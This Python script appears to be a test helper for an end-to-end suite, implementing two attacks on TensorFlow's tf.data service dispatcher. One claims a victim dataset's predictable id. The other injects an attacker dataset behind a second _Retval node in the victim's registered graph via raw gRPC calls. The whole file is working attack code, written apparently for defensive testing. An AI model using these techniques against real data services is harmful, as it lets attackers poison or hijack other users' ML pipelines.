"""Attacks on TensorFlow dataset identity, for tests/tests/tensorflow_e2e.rs.

    python identity.py claim SCRATCH TARGET VICTIM
    python identity.py sink SCRATCH TARGET VICTIM

VICTIM is a dataset of e2e.py (`range_10`, `map_10`, ...), which a victim will later read from
TARGET through `distribute`; the attacker's data is `Dataset.range(100, 110)`. SCRATCH is a
fresh dispatcher of the same kind as TARGET, on which the attacker learns what a registration
of VICTIM looks like.

`claim` registers VICTIM on SCRATCH to learn the id a registration of it without an id gets,
then registers the attacker's dataset on TARGET under that explicit id.

`sink` reads back from SCRATCH the graph and metadata `distribute` registers for VICTIM, appends
the attacker's dataset to that graph behind a second `_Retval` node (TensorFlow's workers run
the last one), and registers the result on TARGET without an id, with VICTIM's metadata.

Both print one JSON line: `{"dataset_id": ...}`, the id TARGET answered. TensorFlow has no
Python stubs for the dispatcher's service: its few messages are encoded here.
"""

import json
import sys

import grpc
import tensorflow as tf
from e2e import dataset_of
from service import _field, _varint
from tensorflow.core.framework import graph_pb2

service = tf.data.experimental.service


def attacker():
    return tf.data.Dataset.range(100, 110)


def _ld(number, payload):
    """Field `number`, length-delimited."""
    return _varint(number << 3 | 2) + _varint(len(payload)) + payload


def _call(target, method, request):
    channel = grpc.insecure_channel(target.split("://", 1)[1])
    try:
        call = channel.unary_unary("/tensorflow.data.DispatcherService/" + method)
        return call(request, timeout=60)
    finally:
        channel.close()


def _graph(target, dataset_id):
    # GetDatasetDefResponse { DatasetDef dataset_def = 1 } / DatasetDef { GraphDef graph = 1 }
    reply = _call(target, "GetDatasetDef", _ld(1, dataset_id))
    graph = graph_pb2.GraphDef()
    graph.ParseFromString(_field(_field(reply, 1), 1))
    return graph


def _metadata(target, dataset_id):
    # GetDataServiceMetadataResponse { DataServiceMetadata metadata = 1 }, kept as bytes.
    return _field(_call(target, "GetDataServiceMetadata", _ld(1, dataset_id)), 1)


def _rename(name, prefix):
    """A node input (`node`, `node:1`, `^node`) with its node renamed."""
    if name.startswith("^"):
        return "^" + prefix + name[1:]
    return prefix + name


def claim(scratch, target, victim):
    victim_id = service.register_dataset(scratch, dataset_of(victim)).numpy().decode()
    got = service.register_dataset(target, attacker(), dataset_id=victim_id).numpy().decode()
    print(json.dumps({"dataset_id": got, "claimed": victim_id}), flush=True)


def sink(scratch, target, victim):
    victim_id = service.register_dataset(scratch, dataset_of(victim)).numpy()
    attacker_id = service.register_dataset(scratch, attacker()).numpy()
    graph = _graph(scratch, victim_id)
    extra = _graph(scratch, attacker_id)
    prefix = "attacker/"
    for node in extra.node:
        node.name = prefix + node.name
        node.input[:] = [_rename(i, prefix) for i in node.input]
        graph.node.append(node)
    have = {f.signature.name for f in graph.library.function}
    for function in extra.library.function:
        if function.signature.name not in have:
            graph.library.function.append(function)
    sinks = [n.name for n in graph.node if n.op == "_Retval"]
    assert len(sinks) == 2 and sinks[-1].startswith(prefix), sinks
    # GetOrRegisterDatasetRequest { DatasetDef dataset = 1; DataServiceMetadata metadata = 3 }
    request = _ld(1, _ld(1, graph.SerializeToString())) + _ld(3, _metadata(scratch, victim_id))
    reply = _call(target, "GetOrRegisterDataset", request)
    # GetOrRegisterDatasetResponse { string dataset_id = 1 }
    print(json.dumps({"dataset_id": _field(reply, 1).decode()}), flush=True)


def main():
    role, args = sys.argv[1], sys.argv[2:]
    {"claim": claim, "sink": sink}[role](*args)


if __name__ == "__main__":
    main()
